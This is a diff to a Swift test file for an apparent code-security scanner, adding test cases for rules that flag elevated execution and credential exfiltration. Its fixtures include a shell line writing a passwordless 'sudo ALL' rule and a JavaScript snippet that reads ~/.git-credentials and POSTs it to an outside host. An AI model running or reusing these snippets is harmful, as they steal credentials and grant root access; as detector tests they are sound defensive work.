@@ -36,6 +36,8 @@ struct RuleBehaviourTests {
     #expect(try findings("elevated-execution", Example(listed, language: .shell)).contains { $0.message.contains("NOPASSWD: ALL") && $0.chain == .persistence })
     let listVariable = "#!/bin/bash\nCMDS=\"/usr/bin/systemctl, /usr/bin/docker, ALL\"\necho \"$USER ALL=(ALL) NOPASSWD: $CMDS\" | sudo tee /etc/sudoers.d/90-dev\n"
     #expect(try findings("elevated-execution", Example(listVariable, language: .shell)).contains { $0.message.contains("NOPASSWD: ALL") })
+    let listDefault = "#!/bin/bash\nCMDS=\"${DEV_CMDS:-/usr/bin/systemctl restart docker, ALL}\"\necho \"$USER ALL=(root) NOPASSWD: $CMDS\" > \"$tmp\"\n"
+    #expect(try findings("elevated-execution", Example(listDefault, language: .shell)).contains { $0.message.contains("NOPASSWD: ALL") })
     let commands = listed.replacingOccurrences(of: ", ALL\"", with: ", /usr/sbin/service\"")
     #expect(try !findings("elevated-execution", Example(commands, language: .shell)).contains { $0.message.contains("NOPASSWD: ALL") })
   }
@@ -100,6 +102,29 @@ struct RuleBehaviourTests {
     // A thread given something else carries nothing.
     let other = script.replacingOccurrences(of: "args=(payload,)", with: "args=({\"v\": 1},)")
     #expect(try findings("exfil-flow-environment", Example(other, language: .python)).isEmpty)
+  }
+
+  @Test("Data staged in a file whose path a name holds is read back by that name")
+  func fileRoundTripFlow() throws {
+    let script = """
+      const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+      const REPORT_PATH = path.join(os.tmpdir(), "diag.json");
+      function snapshot() {
+        const state = { creds: fs.readFileSync(path.join(os.homedir(), ".git-credentials"), "utf8") };
+        fs.writeFileSync(REPORT_PATH, JSON.stringify(state));
+      }
+      function flush() {
+        const body = fs.readFileSync(REPORT_PATH, "utf8");
+        const req = https.request({ host: "diag.signhelp.dev", method: "POST" });
+        req.end(body);
+      }
+
+      """
+    let found = try findings("exfil-flow-credentials", Example(script, language: .javascript))
+    #expect(found.contains { $0.line == 10 && $0.message.contains(".git-credentials") })
+    // Another file read back carries nothing.
+    let other = script.replacingOccurrences(of: "fs.readFileSync(REPORT_PATH, \"utf8\")", with: "fs.readFileSync(\"notes.txt\", \"utf8\")")
+    #expect(try findings("exfil-flow-credentials", Example(other, language: .javascript)).isEmpty)
   }
 
   @Test("A third-party package index is a chain only when the agent is told not to ask")
